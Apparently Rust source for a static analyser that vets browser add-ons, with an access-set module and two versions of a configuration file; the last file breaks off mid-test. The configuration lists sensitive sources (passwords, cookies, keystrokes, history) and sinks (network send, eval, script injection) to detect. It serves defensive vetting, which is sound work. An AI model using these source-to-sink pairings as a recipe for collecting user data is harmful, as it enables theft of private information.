    /// they are on the same site and the meet of their names is non-bottom.
    pub fn overlaps(&self, other: &Loc) -> bool {
        self.site == other.site && !matches!(self.prop.meet(&other.prop), Pre::Bot)
    }
}

impl fmt::Display for Loc {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "({}, {})", self.site, self.prop)
    }
}

/// Strength qualifier for a read/write-set element.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Strength {
    /// Possible read/write of the location.
    Weak,
    /// Definite read/write of a single concrete location.
    Strong,
}

impl Strength {
    /// Weakest of two strengths.
    pub fn min(self, other: Strength) -> Strength {
        if self == Strength::Strong && other == Strength::Strong {
            Strength::Strong
        } else {
            Strength::Weak
        }
    }
}

/// A qualified set of locations: the ReadVar/ReadProp/WriteVar/WriteProp
/// sets of the paper, merged into one uniform representation.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct AccessSet {
    entries: BTreeMap<Loc, Strength>,
}

impl AccessSet {
    /// The empty set.
    pub fn new() -> AccessSet {
        AccessSet::default()
    }

    /// Adds an access, keeping the weaker qualifier on duplicates.
    pub fn add(&mut self, loc: Loc, strength: Strength) {
        self.entries
            .entry(loc)
            .and_modify(|s| *s = (*s).min(strength))
            .or_insert(strength);
    }

    /// Merges another set in (used to join across contexts). If the merged
    /// set ends up with more than one entry no entry can be strong any
    /// more: the statement no longer writes/reads a unique location.
    pub fn merge(&mut self, other: &AccessSet) {
        for (loc, s) in &other.entries {
            self.add(loc.clone(), *s);
        }
    }

    /// Demotes every entry to weak if the set is not a singleton. Called
    /// once after all contexts are merged: the paper's strong qualifier
    /// requires the statement to touch exactly one concrete location.
    pub fn finalize(&mut self) {
        if self.entries.len() > 1 {
            for s in self.entries.values_mut() {
                *s = Strength::Weak;
            }
        }
    }

    /// Iterates entries.
    pub fn iter(&self) -> impl Iterator<Item = (&Loc, Strength)> {
        self.entries.iter().map(|(l, s)| (l, *s))
    }

    /// Number of entries.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// True if empty.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// The strength of exactly this location, if present.
    pub fn strength_of(&self, loc: &Loc) -> Option<Strength> {
        self.entries.get(loc).copied()
    }

    /// True if some entry overlaps `loc` (e-intersection non-empty).
    pub fn any_overlap(&self, loc: &Loc) -> bool {
        self.entries.keys().any(|l| l.overlaps(loc))
    }

    /// All entries overlapping `loc`.
    pub fn overlapping<'a>(
        &'a self,
        loc: &'a Loc,
    ) -> impl Iterator<Item = (&'a Loc, Strength)> + 'a {
        self.entries
            .iter()
            .filter(move |(l, _)| l.overlaps(loc))
            .map(|(l, s)| (l, *s))
    }
}

/// Read and write sets for one statement (merged over contexts).
#[derive(Debug, Clone, PartialEq, Default)]
pub struct RwSets {
    /// Locations the statement may/must read.
    pub reads: AccessSet,
    /// Locations the statement may/must write.
    pub writes: AccessSet,
}

impl RwSets {
    /// Empty sets.
    pub fn new() -> RwSets {
        RwSets::default()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn site(n: u32) -> AllocSite {
        AllocSite(n)
    }

    #[test]
    fn overlap_uses_prefix_meet() {
        let a = Loc::exact(site(0), "url");
        let b = Loc {
            site: site(0),
            prop: Pre::prefix("u"),
        };
        let c = Loc::exact(site(0), "key");
        let d = Loc::exact(site(1), "url");
        assert!(a.overlaps(&b));
        assert!(!a.overlaps(&c));
        assert!(!a.overlaps(&d));
        let any = Loc {
            site: site(0),
            prop: Pre::any(),
        };
        assert!(any.overlaps(&a) && any.overlaps(&c));
    }

    #[test]
    fn add_keeps_weaker() {
        let mut s = AccessSet::new();
        let l = Loc::exact(site(0), "x");
        s.add(l.clone(), Strength::Strong);
        assert_eq!(s.strength_of(&l), Some(Strength::Strong));
        s.add(l.clone(), Strength::Weak);
        assert_eq!(s.strength_of(&l), Some(Strength::Weak));
    }

    #[test]
    fn finalize_demotes_non_singletons() {
        let mut s = AccessSet::new();
        s.add(Loc::exact(site(0), "x"), Strength::Strong);
        s.finalize();
        assert_eq!(
            s.strength_of(&Loc::exact(site(0), "x")),
            Some(Strength::Strong)
        );
        s.add(Loc::exact(site(0), "y"), Strength::Strong);
        s.finalize();
        assert!(s.iter().all(|(_, st)| st == Strength::Weak));
    }

    #[test]
    fn merge_unions() {
        let mut a = AccessSet::new();
        a.add(Loc::exact(site(0), "x"), Strength::Strong);
        let mut b = AccessSet::new();
        b.add(Loc::exact(site(1), "y"), Strength::Weak);
        a.merge(&b);
        assert_eq!(a.len(), 2);
    }

    #[test]
    fn overlapping_iterator() {
        let mut s = AccessSet::new();
        s.add(Loc::exact(site(0), "aa"), Strength::Strong);
        s.add(Loc::exact(site(0), "ab"), Strength::Weak);
        s.add(Loc::exact(site(2), "aa"), Strength::Weak);
        let probe = Loc {
            site: site(0),
            prop: Pre::prefix("a"),
        };
        assert_eq!(s.overlapping(&probe).count(), 2);
        assert!(s.any_overlap(&probe));
    }
}
