//! Analysis and security configuration.

use std::collections::BTreeSet;
use std::fmt;

/// Kinds of interesting information sources, per Section 4 of the paper
/// ("the set of interesting sources, sinks, and APIs is given to the
/// analysis ... easily configurable if desired").
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum SourceKind {
    /// The current browser URL (`content.location.href` and friends).
    Url,
    /// User key presses (event `keyCode` / `charCode`).
    Key,
    /// Geolocation coordinates.
    Geoloc,
    /// Browser cookies.
    Cookie,
    /// Browsing history.
    History,
    /// The system clipboard.
    Clipboard,
    /// Stored passwords / login manager data.
    Password,
    /// Bookmarks.
    Bookmark,
    /// Form input / selected text.
    Selection,
    /// A custom, user-configured source.
    Custom(String),
}

impl fmt::Display for SourceKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            SourceKind::Url => write!(f, "url"),
            SourceKind::Key => write!(f, "key"),
            SourceKind::Geoloc => write!(f, "geoloc"),
            SourceKind::Cookie => write!(f, "cookie"),
            SourceKind::History => write!(f, "history"),
            SourceKind::Clipboard => write!(f, "clipboard"),
            SourceKind::Password => write!(f, "password"),
            SourceKind::Bookmark => write!(f, "bookmark"),
            SourceKind::Selection => write!(f, "selection"),
            SourceKind::Custom(s) => write!(f, "{s}"),
        }
    }
}

/// Kinds of interesting sinks.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum SinkKind {
    /// A network send (`XMLHttpRequest`); carries the inferred network
    /// domain as a prefix-domain element in the signature.
    Send,
    /// Dynamic script injection (`Services.scriptloader.loadSubScript`).
    ScriptLoader,
    /// `eval` and other dynamic-code APIs (restricted for addons).
    Eval,
    /// Writing browser preferences.
    PrefWrite,
    /// Writing to the filesystem.
    FileWrite,
    /// A custom sink.
    Custom(String),
}

impl fmt::Display for SinkKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            SinkKind::Send => write!(f, "send"),
            SinkKind::ScriptLoader => write!(f, "scriptloader"),
            SinkKind::Eval => write!(f, "eval"),
            SinkKind::PrefWrite => write!(f, "prefwrite"),
            SinkKind::FileWrite => write!(f, "filewrite"),
            SinkKind::Custom(s) => write!(f, "{s}"),
        }
    }
}

/// Which abstract string domain the base analysis uses. The paper's
/// contribution is [`StringDomain::Prefix`]; [`StringDomain::ConstantOnly`]
/// reproduces the "string constant analysis" baseline Section 5 argues is
/// insufficient, and exists for ablation experiments.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum StringDomain {
    /// The Section 5 prefix string domain (exact strings + prefixes).
    Prefix,
    /// Flat constants: any non-exact string degrades to unknown.
    ConstantOnly,
}

/// The order in which the interpreter's worklist revisits pending
/// `(statement, context)` nodes. Any order reaches the same fixpoint (the
/// transfer functions are monotone); the order only changes how many
/// steps it takes to get there.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum WorklistOrder {
    /// Reverse postorder over the CFG: predecessors are processed before
    /// successors whenever possible, so each node sees a more complete
    /// input state per visit. The default.
    Rpo,
    /// First-in first-out (the naive baseline); kept for the golden
    /// order-independence test and for A/B measurements.
    Fifo,
}

/// Configuration of the base analysis.
#[derive(Debug, Clone)]
pub struct AnalysisConfig {
    /// Call-string depth for context sensitivity (JSAI-style); default 1.
    pub context_depth: usize,
    /// The abstract string domain (ablation knob; default the paper's
    /// prefix domain).
    pub string_domain: StringDomain,
    /// Safety valve: maximum worklist steps before the analysis gives up
    /// and reports partial results (never hit on the benchmark corpus).
    pub max_steps: usize,
    /// Analysis budget in worklist steps. Unlike [`AnalysisConfig::max_steps`]
    /// (a last-resort safety valve), this is a *caller-imposed* resource
    /// budget: exceeding it records [`crate::AnalysisResult::budget_exhausted`]
    /// so the service layer can turn a runaway analysis into a degraded
    /// `timeout` verdict instead of hanging a worker. `None` = unlimited.
    pub step_budget: Option<usize>,
    /// Wall-clock budget for the fixpoint loop, checked every
    /// [`DEADLINE_CHECK_INTERVAL`] steps. `None` = unlimited.
    pub deadline: Option<std::time::Duration>,
    /// Worklist scheduling order (perf knob; results are identical).
    pub worklist: WorklistOrder,
    /// The security configuration (sources / APIs considered interesting).
    pub security: SecurityConfig,
}

/// How many worklist steps pass between wall-clock deadline probes.
/// `Instant::now()` is too expensive to call on every step; probing every
/// 256 steps bounds the overshoot to well under a millisecond of analysis
/// work while keeping the common (no-deadline) path branch-only.
pub const DEADLINE_CHECK_INTERVAL: usize = 256;

impl Default for AnalysisConfig {
    fn default() -> Self {
        AnalysisConfig {
            context_depth: 1,
            string_domain: StringDomain::Prefix,
            max_steps: 2_000_000,
            step_budget: None,
            deadline: None,
            worklist: WorklistOrder::Rpo,
            security: SecurityConfig::default(),
        }
    }
}

/// Which resource limit stopped the fixpoint loop.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum BudgetKind {
    /// [`AnalysisConfig::max_steps`], the analysis's own last-resort
    /// safety valve against divergence.
    SafetyValve,
    /// [`AnalysisConfig::step_budget`], a caller-imposed step budget.
    Steps,
    /// [`AnalysisConfig::deadline`], a caller-imposed wall-clock budget.
    Deadline,
}

impl fmt::Display for BudgetKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            BudgetKind::SafetyValve => write!(f, "safety valve (max_steps)"),
            BudgetKind::Steps => write!(f, "step budget"),
            BudgetKind::Deadline => write!(f, "deadline"),
        }
    }
}

/// Why (and when) the fixpoint loop was aborted by its resource budget.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct BudgetExhausted {
    /// Which limit tripped.
    pub kind: BudgetKind,
    /// Worklist steps executed when the budget tripped.
    pub steps: usize,
    /// Wall time elapsed inside the fixpoint loop at that point.
    pub elapsed: std::time::Duration,
}

impl AnalysisConfig {
    /// Replaces the call-string depth for context sensitivity.
    #[must_use]
    pub fn with_context_depth(mut self, depth: usize) -> Self {
        self.context_depth = depth;
        self
    }

    /// Replaces the abstract string domain.
    #[must_use]
    pub fn with_string_domain(mut self, domain: StringDomain) -> Self {
        self.string_domain = domain;
        self
    }

    /// Replaces the divergence safety valve ([`AnalysisConfig::max_steps`]).
    #[must_use]
    pub fn with_max_steps(mut self, max_steps: usize) -> Self {
        self.max_steps = max_steps;
        self
    }

    /// Imposes a caller step budget ([`AnalysisConfig::step_budget`]).
    #[must_use]
    pub fn with_step_budget(mut self, budget: usize) -> Self {
        self.step_budget = Some(budget);
        self
    }

    /// Imposes a wall-clock deadline ([`AnalysisConfig::deadline`]).
    #[must_use]
    pub fn with_deadline(mut self, deadline: std::time::Duration) -> Self {
        self.deadline = Some(deadline);
        self
    }

    /// Replaces the worklist scheduling order.
    #[must_use]
    pub fn with_worklist(mut self, order: WorklistOrder) -> Self {
        self.worklist = order;
        self
    }

    /// Replaces the whole security configuration.
    #[must_use]
    pub fn with_security(mut self, security: SecurityConfig) -> Self {
        self.security = security;
        self
    }

    /// Replaces the set of source kinds the vetter reports flows from.
    #[must_use]
    pub fn with_sources(mut self, sources: impl IntoIterator<Item = SourceKind>) -> Self {
        self.security.sources = sources.into_iter().collect();
        self
    }
    /// A canonical, deterministic rendering of every knob that can change
    /// what the analysis produces. The service layer hashes this together
    /// with the source bytes to form content-addressed cache keys, so two
    /// submissions agree on a cache slot exactly when they would produce
    /// the same report. `BTreeSet` fields iterate in sorted order, making
    /// the rendering independent of how the config was assembled.
    pub fn canonical_string(&self) -> String {
        use std::fmt::Write as _;
        let mut out = String::new();
        write!(
            out,
            "k={};strings={:?};max_steps={};step_budget={:?};deadline_us={:?};worklist={:?}",
            self.context_depth,
            self.string_domain,
            self.max_steps,
            self.step_budget,
            self.deadline.map(|d| d.as_micros()),
            self.worklist,
        )
        .expect("writing to a String cannot fail");
        out.push_str(";sources=");
        for s in &self.security.sources {
            write!(out, "{s},").expect("writing to a String cannot fail");
        }
        out.push_str(";apis=");
        for a in &self.security.interesting_apis {
            write!(out, "{a},").expect("writing to a String cannot fail");
        }
        out
    }
}

/// Which sources and APIs the vetter cares about. Mirrors "the sources,
/// sinks, and APIs considered interesting by the Mozilla vetting team".
#[derive(Debug, Clone)]
pub struct SecurityConfig {
    /// Source kinds to report flows from.
    pub sources: BTreeSet<SourceKind>,
    /// Names of natives whose *usage* is interesting (script injection,
    /// deprecated APIs); reported as API-usage signature entries.
    pub interesting_apis: BTreeSet<String>,
}

impl Default for SecurityConfig {
    fn default() -> Self {
        let sources = [
            SourceKind::Url,
            SourceKind::Key,
            SourceKind::Geoloc,
            SourceKind::Cookie,
            SourceKind::History,
            SourceKind::Clipboard,
            SourceKind::Password,
            SourceKind::Bookmark,
        ]
        .into_iter()
        .collect();
        let interesting_apis = [
            "eval",
            "Function",
            "Services.scriptloader.loadSubScript",
            "setTimeout$string", // string-argument setTimeout = dynamic code
            "window.openDialog", // deprecated
            "escape",            // deprecated
            "unescape",          // deprecated
        ]
        .into_iter()
        .map(str::to_owned)
        .collect();
        SecurityConfig {
            sources,
            interesting_apis,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn default_config_is_paper_like() {
        let c = AnalysisConfig::default();
        assert_eq!(c.context_depth, 1);
        assert!(c.security.sources.contains(&SourceKind::Url));
        assert!(c.security.sources.contains(&SourceKind::Key));
        assert!(
            !c.security.sources.contains(&SourceKind::Selection),
            "selected text is not in the paper's interesting set"
        );
        assert!(c
            .security
            .interesting_apis
            .contains("Services.scriptloader.loadSubScript"));
    }

    #[test]
    fn canonical_string_is_stable_and_discriminating() {
        let a = AnalysisConfig::default();
        let b = AnalysisConfig::default();
        assert_eq!(a.canonical_string(), b.canonical_string());
        let deeper = AnalysisConfig::default().with_context_depth(2);
        assert_ne!(a.canonical_string(), deeper.canonical_string());
        let budgeted = AnalysisConfig::default().with_step_budget(100);
        assert_ne!(a.canonical_string(), budgeted.canonical_string());
        let fewer_sources = AnalysisConfig::default().with_sources([SourceKind::Url]);
        assert_ne!(a.canonical_string(), fewer_sources.canonical_string());
    }

    #[test]
    fn builder_setters_replace_each_knob() {
        let c = AnalysisConfig::default()
            .with_context_depth(3)
            .with_string_domain(StringDomain::ConstantOnly)
            .with_max_steps(10)
            .with_step_budget(5)
            .with_deadline(std::time::Duration::from_secs(1))
            .with_worklist(WorklistOrder::Fifo)
            .with_sources([SourceKind::Key]);
        assert_eq!(c.context_depth, 3);
        assert_eq!(c.string_domain, StringDomain::ConstantOnly);
        assert_eq!(c.max_steps, 10);
        assert_eq!(c.step_budget, Some(5));
        assert_eq!(c.deadline, Some(std::time::Duration::from_secs(1)));
        assert_eq!(c.worklist, WorklistOrder::Fifo);
        assert_eq!(c.security.sources, std::iter::once(SourceKind::Key).collect());
    }

    #[test]
    fn display_names() {
        assert_eq!(SourceKind::Url.to_string(), "url");
        assert_eq!(SinkKind::Send.to_string(), "send");
        assert_eq!(
            SourceKind::Custom("battery".into()).to_string(),
            "battery"
        );
    }
}
