//! Analysis and security configuration.

use std::collections::BTreeSet;
use std::fmt;

/// Kinds of interesting information sources, per Section 4 of the paper
/// ("the set of interesting sources, sinks, and APIs is given to the
/// analysis ... easily configurable if desired").
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum SourceKind {
    /// The current browser URL (`content.location.href` and friends).
    Url,
    /// User key presses (event `keyCode` / `charCode`).
    Key,
    /// Geolocation coordinates.
    Geoloc,
    /// Browser cookies.
    Cookie,
    /// Browsing history.
    History,
    /// The system clipboard.
    Clipboard,
    /// Stored passwords / login manager data.
    Password,
    /// Bookmarks.
    Bookmark,
    /// Form input / selected text.
    Selection,
    /// A custom, user-configured source.
    Custom(String),
}

impl fmt::Display for SourceKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            SourceKind::Url => write!(f, "url"),
            SourceKind::Key => write!(f, "key"),
            SourceKind::Geoloc => write!(f, "geoloc"),
            SourceKind::Cookie => write!(f, "cookie"),
            SourceKind::History => write!(f, "history"),
            SourceKind::Clipboard => write!(f, "clipboard"),
            SourceKind::Password => write!(f, "password"),
            SourceKind::Bookmark => write!(f, "bookmark"),
            SourceKind::Selection => write!(f, "selection"),
            SourceKind::Custom(s) => write!(f, "{s}"),
        }
    }
}

/// Kinds of interesting sinks.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum SinkKind {
    /// A network send (`XMLHttpRequest`); carries the inferred network
    /// domain as a prefix-domain element in the signature.
    Send,
    /// Dynamic script injection (`Services.scriptloader.loadSubScript`).
    ScriptLoader,
    /// `eval` and other dynamic-code APIs (restricted for addons).
    Eval,
    /// Writing browser preferences.
    PrefWrite,
    /// Writing to the filesystem.
    FileWrite,
    /// A custom sink.
    Custom(String),
}

impl fmt::Display for SinkKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            SinkKind::Send => write!(f, "send"),
            SinkKind::ScriptLoader => write!(f, "scriptloader"),
            SinkKind::Eval => write!(f, "eval"),
            SinkKind::PrefWrite => write!(f, "prefwrite"),
            SinkKind::FileWrite => write!(f, "filewrite"),
            SinkKind::Custom(s) => write!(f, "{s}"),
        }
    }
}

/// Which abstract string domain the base analysis uses. The paper's
/// contribution is [`StringDomain::Prefix`]; [`StringDomain::ConstantOnly`]
/// reproduces the "string constant analysis" baseline Section 5 argues is
/// insufficient, and exists for ablation experiments.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum StringDomain {
    /// The Section 5 prefix string domain (exact strings + prefixes).
    Prefix,
    /// Flat constants: any non-exact string degrades to unknown.
    ConstantOnly,
}

/// The order in which the interpreter's worklist revisits pending
/// `(statement, context)` nodes. Any order reaches the same fixpoint (the
/// transfer functions are monotone); the order only changes how many
/// steps it takes to get there.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum WorklistOrder {
    /// Reverse postorder over the CFG: predecessors are processed before
    /// successors whenever possible, so each node sees a more complete
    /// input state per visit. The default.
    Rpo,
    /// First-in first-out (the naive baseline); kept for the golden
    /// order-independence test and for A/B measurements.
    Fifo,
}

/// Configuration of the base analysis.
#[derive(Debug, Clone)]
pub struct AnalysisConfig {
    /// Call-string depth for context sensitivity (JSAI-style); default 1.
    pub context_depth: usize,
    /// The abstract string domain (ablation knob; default the paper's
    /// prefix domain).
    pub string_domain: StringDomain,
    /// Safety valve: maximum worklist steps before the analysis gives up
    /// and reports partial results (never hit on the benchmark corpus).
    pub max_steps: usize,
    /// Analysis budget in worklist steps. Unlike [`AnalysisConfig::max_steps`]
    /// (a last-resort safety valve), this is a *caller-imposed* resource
    /// budget: exceeding it records [`crate::AnalysisResult::budget_exhausted`]
    /// so the service layer can turn a runaway analysis into a degraded
    /// `timeout` verdict instead of hanging a worker. `None` = unlimited.
    pub step_budget: Option<usize>,
    /// Wall-clock budget for the fixpoint loop, checked every
    /// [`DEADLINE_CHECK_INTERVAL`] steps. `None` = unlimited.
    pub deadline: Option<std::time::Duration>,
    /// Worklist scheduling order (perf knob; results are identical).
    pub worklist: WorklistOrder,
    /// Triage mode: the pipeline may stop after the base analysis when
    /// phase 1 alone proves no flow entry can exist (no reachable
    /// interesting-source read, or no reachable sink), emitting the
    /// flows-free signature directly. The emitted signature is
    /// byte-identical to what phases 2–3 would produce in that case, but
    /// the *verdict provenance* differs (no PDG, no witnesses possible),
    /// so this knob participates in [`AnalysisConfig::canonical_string`]
    /// — a triage result must never be served to a non-triage request.
    pub triage: bool,
    /// The security configuration (sources / APIs considered interesting).
    pub security: SecurityConfig,
}

/// How many worklist steps pass between wall-clock deadline probes.
/// `Instant::now()` is too expensive to call on every step; probing every
/// 256 steps bounds the overshoot to well under a millisecond of analysis
/// work while keeping the common (no-deadline) path branch-only.
pub const DEADLINE_CHECK_INTERVAL: usize = 256;

impl Default for AnalysisConfig {
    fn default() -> Self {
        AnalysisConfig {
            context_depth: 1,
            string_domain: StringDomain::Prefix,
            max_steps: 2_000_000,
            step_budget: None,
            deadline: None,
            worklist: WorklistOrder::Rpo,
            triage: false,
            security: SecurityConfig::default(),
        }
    }
}

/// Which resource limit stopped the fixpoint loop.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum BudgetKind {
    /// [`AnalysisConfig::max_steps`], the analysis's own last-resort
    /// safety valve against divergence.
    SafetyValve,
    /// [`AnalysisConfig::step_budget`], a caller-imposed step budget.
    Steps,
    /// [`AnalysisConfig::deadline`], a caller-imposed wall-clock budget.
    Deadline,
}

impl fmt::Display for BudgetKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            BudgetKind::SafetyValve => write!(f, "safety valve (max_steps)"),
            BudgetKind::Steps => write!(f, "step budget"),
            BudgetKind::Deadline => write!(f, "deadline"),
        }
    }
}

/// Why (and when) the fixpoint loop was aborted by its resource budget.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct BudgetExhausted {
    /// Which limit tripped.
    pub kind: BudgetKind,
    /// Worklist steps executed when the budget tripped.
    pub steps: usize,
    /// Wall time elapsed inside the fixpoint loop at that point.
    pub elapsed: std::time::Duration,
}

impl AnalysisConfig {
    /// Replaces the call-string depth for context sensitivity.
    #[must_use]
    pub fn with_context_depth(mut self, depth: usize) -> Self {
        self.context_depth = depth;
        self
    }

    /// Replaces the abstract string domain.
    #[must_use]
    pub fn with_string_domain(mut self, domain: StringDomain) -> Self {
        self.string_domain = domain;
        self
    }

    /// Replaces the divergence safety valve ([`AnalysisConfig::max_steps`]).
    #[must_use]
    pub fn with_max_steps(mut self, max_steps: usize) -> Self {
        self.max_steps = max_steps;
        self
    }

    /// Imposes a caller step budget ([`AnalysisConfig::step_budget`]).
    #[must_use]
    pub fn with_step_budget(mut self, budget: usize) -> Self {
        self.step_budget = Some(budget);
        self
    }

    /// Imposes a wall-clock deadline ([`AnalysisConfig::deadline`]).
    #[must_use]
    pub fn with_deadline(mut self, deadline: std::time::Duration) -> Self {
        self.deadline = Some(deadline);
        self
    }

    /// Replaces the worklist scheduling order.
    #[must_use]
    pub fn with_worklist(mut self, order: WorklistOrder) -> Self {
        self.worklist = order;
        self
    }

    /// Enables or disables triage mode ([`AnalysisConfig::triage`]).
    #[must_use]
    pub fn with_triage(mut self, triage: bool) -> Self {
        self.triage = triage;
        self
    }

    /// The triage tier of the vetting ladder: context-insensitive
    /// (k=0), triage fast path on (benign addons stop after phase 1),
    /// and a tight caller step budget so a pathological submission
    /// escalates instead of stalling the cheap tier. The string domain
    /// stays [`StringDomain::Prefix`]: degrading it would change the
    /// *sink domains* a tier-0 signature reports, and the ladder's
    /// no-downgrade guarantee requires tier-0-resolved signatures to be
    /// byte-identical to full-sensitivity ones.
    #[must_use]
    pub fn tier0() -> Self {
        AnalysisConfig::default()
            .with_context_depth(0)
            .with_step_budget(TIER0_STEP_BUDGET)
            .with_triage(true)
    }

    /// The escalation tier: the paper's full-sensitivity configuration
    /// (k=1, prefix strings, no caller budget) — identical to
    /// [`AnalysisConfig::default`], named so ladder specs read as what
    /// they mean.
    #[must_use]
    pub fn tier_full() -> Self {
        AnalysisConfig::default()
    }

    /// Replaces the whole security configuration.
    #[must_use]
    pub fn with_security(mut self, security: SecurityConfig) -> Self {
        self.security = security;
        self
    }

    /// Replaces the set of source kinds the vetter reports flows from.
    #[must_use]
    pub fn with_sources(mut self, sources: impl IntoIterator<Item = SourceKind>) -> Self {
        self.security.sources = sources.into_iter().collect();
        self
    }
    /// A canonical, deterministic rendering of every knob that can change
    /// what the analysis produces. The service layer hashes this together
    /// with the source bytes to form content-addressed cache keys, so two
    /// submissions agree on a cache slot exactly when they would produce
    /// the same report. `BTreeSet` fields iterate in sorted order, making
    /// the rendering independent of how the config was assembled.
    pub fn canonical_string(&self) -> String {
        use std::fmt::Write as _;
        let mut out = String::new();
        write!(
            out,
            "k={};strings={:?};max_steps={};step_budget={:?};deadline_us={:?};worklist={:?};triage={}",
            self.context_depth,
            self.string_domain,
            self.max_steps,
            self.step_budget,
            self.deadline.map(|d| d.as_micros()),
            self.worklist,
            self.triage,
        )
        .expect("writing to a String cannot fail");
        out.push_str(";sources=");
        for s in &self.security.sources {
            write!(out, "{s},").expect("writing to a String cannot fail");
        }
        out.push_str(";apis=");
        for a in &self.security.interesting_apis {
            write!(out, "{a},").expect("writing to a String cannot fail");
        }
        out
    }
}

/// The caller step budget [`AnalysisConfig::tier0`] imposes. The whole
/// benchmark corpus fixpoints in well under 5k steps, so 50k is generous
/// for anything triage should handle — a submission that blows through it
/// is exactly the kind of outlier the ladder escalates.
pub const TIER0_STEP_BUDGET: usize = 50_000;

/// One rung of a [`LadderSpec`]: a display name (stamped into verdicts,
/// log events, and per-tier metrics) plus the configuration that rung
/// runs under.
#[derive(Debug, Clone)]
pub struct LadderRung {
    /// The tier's name (`tier0`, `full`, ...). Stamped into the `tier`
    /// field of wire verdicts and log events and suffixed onto metric
    /// names, so it must be non-empty and metric-safe
    /// (`[a-zA-Z0-9_]`) — [`LadderSpec::validate`] enforces this.
    pub name: String,
    /// The analysis configuration this rung runs.
    pub config: AnalysisConfig,
}

/// An ordered escalation ladder: two or more rungs, cheapest first. The
/// driver (`addon_sig::ladder` / `sigserve`'s `run_ladder`) runs rungs
/// in order and escalates to the next rung whenever the current one
/// reports a non-benign flow or exhausts its caller budget; only the
/// final rung's outcome may surface a timeout.
#[derive(Debug, Clone)]
pub struct LadderSpec {
    /// The rungs, in escalation order.
    pub rungs: Vec<LadderRung>,
}

impl LadderSpec {
    /// The default two-rung ladder: [`AnalysisConfig::tier0`] triage,
    /// then [`AnalysisConfig::tier_full`] escalation.
    pub fn standard() -> LadderSpec {
        LadderSpec {
            rungs: vec![
                LadderRung {
                    name: "tier0".to_owned(),
                    config: AnalysisConfig::tier0(),
                },
                LadderRung {
                    name: "full".to_owned(),
                    config: AnalysisConfig::tier_full(),
                },
            ],
        }
    }

    /// Checks the spec is runnable: at least two rungs (one rung is not
    /// a ladder — use the plain single-config path), every rung named
    /// with a non-empty metric-safe identifier, and no duplicate names
    /// (the name is the tier's identity in verdicts and metrics).
    pub fn validate(&self) -> Result<(), String> {
        if self.rungs.len() < 2 {
            return Err(format!(
                "a ladder needs at least 2 rungs, got {}",
                self.rungs.len()
            ));
        }
        let mut seen = BTreeSet::new();
        for rung in &self.rungs {
            if rung.name.is_empty()
                || !rung
                    .name
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || c == '_')
            {
                return Err(format!(
                    "rung name {:?} is not a metric-safe identifier",
                    rung.name
                ));
            }
            if !seen.insert(rung.name.as_str()) {
                return Err(format!("duplicate rung name {:?}", rung.name));
            }
        }
        Ok(())
    }

    /// The ladder's canonical identity: every rung's name and canonical
    /// config, joined in order. This is the config half of cache keys
    /// when a service runs in ladder mode — a ladder verdict depends on
    /// *every* rung (which rung resolved, and with what budgets), so two
    /// ladders share cache slots exactly when all their rungs agree.
    pub fn canonical_string(&self) -> String {
        use std::fmt::Write as _;
        let mut out = String::from("ladder=[");
        for rung in &self.rungs {
            write!(out, "{{{}:{}}}", rung.name, rung.config.canonical_string())
                .expect("writing to a String cannot fail");
        }
        out.push(']');
        out
    }

    /// The final (most precise) rung.
    pub fn last(&self) -> &LadderRung {
        self.rungs.last().expect("validated ladders are non-empty")
    }
}

/// Which sources and APIs the vetter cares about. Mirrors "the sources,
/// sinks, and APIs considered interesting by the Mozilla vetting team".
#[derive(Debug, Clone)]
pub struct SecurityConfig {
    /// Source kinds to report flows from.
    pub sources: BTreeSet<SourceKind>,
    /// Names of natives whose *usage* is interesting (script injection,
    /// deprecated APIs); reported as API-usage signature entries.
    pub interesting_apis: BTreeSet<String>,
}

impl Default for SecurityConfig {
    fn default() -> Self {
        let sources = [
            SourceKind::Url,
            SourceKind::Key,
            SourceKind::Geoloc,
            SourceKind::Cookie,
            SourceKind::History,
            SourceKind::Clipboard,
            SourceKind::Password,
            SourceKind::Bookmark,
        ]
        .into_iter()
        .collect();
        let interesting_apis = [
            "eval",
            "Function",
            "Services.scriptloader.loadSubScript",
            "setTimeout$string", // string-argument setTimeout = dynamic code
            "window.openDialog", // deprecated
            "escape",            // deprecated
            "unescape",          // deprecated
        ]
        .into_iter()
        .map(str::to_owned)
        .collect();
        SecurityConfig {
            sources,
            interesting_apis,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn default_config_is_paper_like() {
        let c = AnalysisConfig::default();
        assert_eq!(c.context_depth, 1);
        assert!(c.security.sources.contains(&SourceKind::Url));
        assert!(c.security.sources.contains(&SourceKind::Key));
        assert!(
            !c.security.sources.contains(&SourceKind::Selection),
            "selected text is not in the paper's interesting set"
        );
        assert!(c
            .security
            .interesting_apis
